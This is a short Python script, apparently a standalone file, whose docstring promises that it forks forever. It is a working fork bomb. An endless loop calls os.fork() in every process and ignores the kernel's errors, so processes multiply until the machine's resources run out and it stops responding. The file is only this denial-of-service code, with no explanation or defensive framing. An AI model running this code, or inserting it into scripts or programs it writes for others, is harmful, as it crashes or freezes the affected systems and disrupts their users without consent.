"""Forks for ever, in every process, whatever the kernel answers."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
